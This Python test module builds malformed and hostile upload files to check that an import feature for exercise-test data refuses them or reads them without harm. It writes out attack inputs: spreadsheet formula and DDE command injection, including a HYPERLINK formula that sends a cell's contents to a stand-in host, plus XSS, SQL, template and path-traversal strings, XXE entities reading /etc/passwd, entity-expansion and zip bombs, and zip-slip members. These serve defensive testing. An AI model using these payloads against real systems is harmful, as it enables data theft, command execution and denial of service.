"""Files that are broken or meant ill, each made here: what an import must refuse, or read without harm.

Each is a name, the name it is sent under, and its bytes. Kinds of attack are common practice of testing file uploads
(no source); none of the content is of anybody.
"""

import io
import random
import struct
import zipfile
from collections.abc import Callable, Iterator
from datetime import datetime

import openpyxl

from tests.api.conftest import step_test

_NAMES = ("end_s", "vo2_ml_min", "vco2_ml_min", "ve_l_min", "heart_rate_bpm", "speed_km_h", "grade_percent")
HEADER = "t (s),VO2 (mL/min),VCO2 (mL/min),VE (L/min),HR (bpm),Speed (km/h),Grade (%)"
_MIB = 1024 * 1024


def good() -> list[list[object]]:
    """A test that would be read."""
    return [[row[name] for name in _NAMES] for row in step_test()]


def csv_of(rows: list[list[object]], header: str = HEADER, line: str = "\n", mark: str = ",") -> bytes:
    """A text file of these rows."""
    return line.join([header.replace(",", mark), *(mark.join(map(str, row)) for row in rows)]).encode()


def with_cell(value: object, row: int = 5, column: int = 1) -> bytes:
    """The good file with one cell changed."""
    rows = good()
    rows[row][column] = value
    return csv_of(rows)


def workbook(change: Callable[[openpyxl.Workbook], object] | None = None) -> bytes:
    """The good file as a workbook, changed."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(HEADER.split(","))
    for row in good():
        sheet.append(row)
    if change is not None:
        change(book)
    stream = io.BytesIO()
    book.save(stream)
    return stream.getvalue()


def repacked(
    change: dict[str, bytes], *, add: dict[str, bytes] | None = None, drop: tuple[str, ...] = ()
) -> bytes:
    """A workbook with other bytes in members of its archive."""
    stream = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(workbook())) as old,
        zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for name in old.namelist():
            if name not in drop:
                new.writestr(name, change.get(name, old.read(name)))
        for name, data in (add or {}).items():
            new.writestr(name, data)
    return stream.getvalue()


def _sheet(text: str) -> bytes:
    return repacked({"xl/worksheets/sheet1.xml": text.encode()})


def _bomb(mib: int) -> bytes:
    stream = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(workbook())) as old,
        zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for name in old.namelist():
            if name != "xl/worksheets/sheet1.xml":
                new.writestr(name, old.read(name))
        with new.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            sheet.write(b"<worksheet><sheetData>")
            for _ in range(mib):
                sheet.write(b"<row/>" * (_MIB // 6))
    return stream.getvalue()


def _lying_size(data: bytes, size: int) -> bytes:
    """The archive says that its members are small."""
    changed = bytearray(data)
    place = 0
    while (place := data.find(b"PK\x01\x02", place)) >= 0:
        struct.pack_into("<I", changed, place + 24, size)
        place += 4
    return bytes(changed)


_DOCTYPE = (
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(8))
    + "]>"
)
_ROW = '<row r="1"><c r="A1" t="inlineStr"><is><t>{}</t></is></c></row>'
_FORMULA = '=HYPERLINK("http://upslope.example.org/?"&A1,"open")'


def _texts() -> Iterator[tuple[str, str, bytes]]:
    rows = good()
    plain = csv_of(rows)
    yield "empty", "a.csv", b""
    yield "one byte", "a.csv", b"x"
    yield "blank lines", "a.csv", b"\n" * 10_000
    yield "spaces", "a.csv", b" " * 100_000
    yield "nulls", "a.csv", b"\x00" * 100_000
    yield "binary noise", "a.csv", random.Random(1).randbytes(200_000)
    yield "noise that looks like text", "a.csv", bytes(random.Random(2).choices(range(32, 127), k=200_000))
    yield "noise after a good header", "a.csv", HEADER.encode() + b"\n" + random.Random(3).randbytes(50_000)
    yield "half a file", "a.csv", plain[: len(plain) // 2]
    yield "cut within a number", "a.csv", plain[:-3]
    yield "header alone", "a.csv", HEADER.encode()
    yield "header twice", "a.csv", csv_of(rows, f"{HEADER}\n{HEADER}")
    yield "same column twice", "a.csv", csv_of([[*row, row[1]] for row in rows], f"{HEADER},VO2 (mL/min)")
    yield "a cell of 5 MiB", "a.csv", with_cell("9" * (5 * _MIB))
    yield "a quote that never closes", "a.csv", plain.replace(b"\n", b'\n"', 1)
    yield "quotes within quotes", "a.csv", with_cell('"""""""""')
    yield (
        "rows of other lengths",
        "a.csv",
        b"\n".join(line + b",1" * place for place, line in enumerate(plain.split(b"\n"))),
    )
    yield "old line ends", "a.csv", csv_of(rows, line="\r")
    yield "mixed line ends", "a.csv", plain.replace(b"\n", b"\r\n", 20)
    yield "null in a cell", "a.csv", with_cell("12\x0034")
    yield "escape in a header", "a.csv", csv_of(rows, HEADER.replace("VO2", "VO2\x1b[2J"))
    yield "overwriting marks in a header", "a.csv", csv_of(rows, HEADER.replace("VO2", "VO2\u202e2OV"))
    yield "zero-width in a header", "a.csv", csv_of(rows, HEADER.replace("VO2", "V\u200bO2"))
    yield "look-alike letters", "a.csv", csv_of(rows, HEADER.replace("VO2", "V\u041e2"))
    yield "script in a header", "a.csv", csv_of(rows, HEADER.replace("HR", "<script>alert(1)</script>"))
    yield "a statement in a header", "a.csv", csv_of(rows, HEADER.replace("HR", "'; DROP TABLE subject; --"))
    yield "a template in a header", "a.csv", csv_of(rows, HEADER.replace("HR", "{{7*7}}${7*7}"))
    yield "a path in a header", "a.csv", csv_of(rows, HEADER.replace("HR", "../../etc/passwd"))
    for words, value in {
        "a formula": _FORMULA,
        "a command": "=cmd|' /C calc'!A0",
        "a formula with a plus": "+1+1",
        "a formula with an at": "@SUM(A1)",
        "not a number": "nan",
        "infinity": "inf",
        "minus infinity": "-Infinity",
        "a huge number": "1e308",
        "beyond huge": "1e400",
        "tiny": "1e-400",
        "400 digits": "9" * 400,
        "a hexadecimal": "0x1F4",
        "digits of another script": "\u0661\u0662\u0663\u0664",
        "fullwidth digits": "\uff11\uff12\uff13",
        "two points": "1.2.3",
        "two marks": "1,234.5,6",
        "an underscore": "1_000",
        "minus zero": "-0",
        "words": "none",
        "an error of a spreadsheet": "#REF!",
        "a negative": "-2500",
        "a smiling face": "\U0001f600",
    }.items():
        yield f"a cell with {words}", "a.csv", with_cell(value if "," not in value else f'"{value}"')
    yield "time that goes back", "a.csv", with_cell(1.0, 20, 0)
    yield "time that stands", "a.csv", csv_of([[15.0, *row[1:]] for row in rows])
    yield "negative time", "a.csv", csv_of([[-float(row[0]), *row[1:]] for row in rows])  # type: ignore[arg-type]
    yield "time in the far future", "a.csv", with_cell(1e15, 30, 0)
    yield "UTF-16", "a.csv", plain.decode().encode("utf-16")
    yield "UTF-16 without its mark", "a.csv", plain.decode().encode("utf-16-le")
    yield "UTF-32", "a.csv", plain.decode().encode("utf-32")
    yield "bytes that are no UTF-8", "a.csv", plain.replace(b"Speed", b"Spe\xff\xfe\xfded")
    yield "half a letter of UTF-8", "a.csv", plain + b"\xc3"
    yield "overlong UTF-8", "a.csv", plain.replace(b"Speed", b"Sp\xc0\xafed")
    yield "half a pair", "a.csv", plain.replace(b"Speed", b"Sp\xed\xa0\x80ed")
    yield (
        "an old Windows code page",
        "a.csv",
        csv_of(rows).replace(b"Speed", "Geschwindigk\xe4t".encode("cp1252")),
    )
    yield "a page of markup", "a.csv", b"<!doctype html><script>alert(1)</script>"
    yield "an SVG", "a.csv", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
    yield "XML entities", "a.csv", (_DOCTYPE + "<x>&i;</x>").encode()
    yield "JSON", "a.csv", b'{"intervals": [{"end_s": 1}]}'
    yield "deep JSON", "a.csv", b"[" * 200_000
    yield "a PDF", "a.csv", b"%PDF-1.7\n" + random.Random(4).randbytes(1000)
    yield "a program", "a.csv", b"\x7fELF" + random.Random(5).randbytes(1000)
    yield "a gzip archive", "a.csv", b"\x1f\x8b\x08" + bytes(100)
    yield "a database", "a.csv", b"SQLite format 3\x00" + bytes(4096)


def _names() -> Iterator[tuple[str, str, bytes]]:
    plain = csv_of(good())
    yield "no name", "", plain
    yield "a path as a name", "../../../../tmp/evil.csv", plain
    yield "a name of 5,000 signs", "a" * 5000 + ".csv", plain
    yield "a name with a script", '"><script>alert(1)</script>.csv', plain
    yield "a name with line ends", "a\r\nX-Evil: 1.csv", plain
    yield "a name of a device", "CON.csv", plain


def _slow() -> Iterator[tuple[str, str, bytes]]:
    """Those that take a while to make or to refuse."""
    yield "a million columns", "a.csv", b",".join([b"c"] * 1_000_000) + b"\n" + b",".join([b"1"] * 1_000_000)
    yield "a line of 20 MiB", "a.csv", b"t (s)," + b"x" * (20 * _MIB)
    yield "300,000 rows", "a.csv", csv_of([[n + 1, 1000, 900, 30, 100, 8, 1] for n in range(300_000)])
    yield "a bomb of 1 GiB", "a.xlsx", _bomb(1024)
    yield "a bomb that lies", "a.xlsx", _lying_size(_bomb(300), 1000)
    yield "100,000 members", "a.xlsx", repacked({}, add={f"x/{n}": b"" for n in range(100_000)})


def _workbooks() -> Iterator[tuple[str, str, bytes]]:
    book = workbook()
    yield "half an archive", "a.xlsx", book[: len(book) // 2]
    yield "an archive without its end", "a.xlsx", book[:-30]
    yield "an archive with noise in it", "a.xlsx", book[:500] + random.Random(6).randbytes(2000) + book[2500:]
    yield "an empty archive", "a.xlsx", b"PK\x05\x06" + bytes(18)
    yield "an archive of a text", "a.xlsx", _archive({"a.csv": csv_of(good())})
    yield "an archive that climbs", "a.xlsx", repacked({}, add={"../../evil.txt": b"x"})
    yield "a sheet of nothing", "a.xlsx", _sheet("")
    yield (
        "a sheet of noise",
        "a.xlsx",
        repacked({"xl/worksheets/sheet1.xml": random.Random(7).randbytes(5000)}),
    )
    yield "a sheet cut off", "a.xlsx", _sheet("<worksheet><sheetData><row r='1'><c")
    yield (
        "entities that grow",
        "a.xlsx",
        _sheet(_DOCTYPE + f"<worksheet><sheetData>{_ROW.format('&i;')}</sheetData></worksheet>"),
    )
    yield (
        "an entity of a file",
        "a.xlsx",
        _sheet(
            '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
            f"<worksheet><sheetData>{_ROW.format('&e;')}</sheetData></worksheet>"
        ),
    )
    yield (
        "an entity of another machine",
        "a.xlsx",
        _sheet(
            '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "http://upslope.example.org/x">]>'
            f"<worksheet><sheetData>{_ROW.format('&e;')}</sheetData></worksheet>"
        ),
    )
    yield "elements 100,000 deep", "a.xlsx", _sheet("<worksheet>" + "<x>" * 100_000)
    yield (
        "a cell far away",
        "a.xlsx",
        _sheet(
            '<worksheet><sheetData><row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData></worksheet>'
        ),
    )
    yield (
        "a cell beyond the sheet",
        "a.xlsx",
        _sheet(
            '<worksheet><sheetData><row r="99999999999"><c r="ZZZZZZ99999999999"><v>1</v></c></row></sheetData></worksheet>'
        ),
    )
    yield (
        "a text that there is not",
        "a.xlsx",
        _sheet(
            '<worksheet><sheetData><row r="1"><c r="A1" t="s"><v>99999999</v></c></row></sheetData></worksheet>'
        ),
    )
    yield "no list of sheets", "a.xlsx", repacked({}, drop=("xl/workbook.xml",))
    yield "no content types", "a.xlsx", repacked({}, drop=("[Content_Types].xml",))
    yield "formulas", "a.xlsx", workbook(_formulas)
    yield "a hidden sheet", "a.xlsx", workbook(_hidden)
    yield "300 sheets", "a.xlsx", workbook(lambda one: [one.create_sheet(f"s{n}") for n in range(300)])
    yield "a date in a column of numbers", "a.xlsx", workbook(_dated)
    yield (
        "a macro beside it",
        "a.xlsx",
        repacked({}, add={"xl/vbaProject.bin": random.Random(8).randbytes(5000)}),
    )
    yield "an old workbook", "a.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2048)
    yield "a workbook named as a text", "a.csv", book
    yield "a text named as a workbook", "a.xlsx", csv_of(good())


def _formulas(book: openpyxl.Workbook) -> None:
    for row in range(2, 20):
        book.active.cell(row, 2).value = _FORMULA


def _hidden(book: openpyxl.Workbook) -> None:
    other = book.create_sheet("hidden")
    other.sheet_state = "hidden"
    other.append(["=1+1"])


def _dated(book: openpyxl.Workbook) -> None:
    book.active.cell(8, 2).value = datetime(2026, 1, 5, 12, 30)  # noqa: DTZ001 a sheet's dates have no offset


def _archive(members: dict[str, bytes]) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as new:
        for name, data in members.items():
            new.writestr(name, data)
    return stream.getvalue()


def files(*, full: bool) -> Iterator[tuple[str, str, bytes]]:
    """All of them, or all but the slow: what it is, the name it is sent under, and its bytes."""
    yield from _texts()
    yield from _names()
    yield from _workbooks()
    if full:
        yield from _slow()
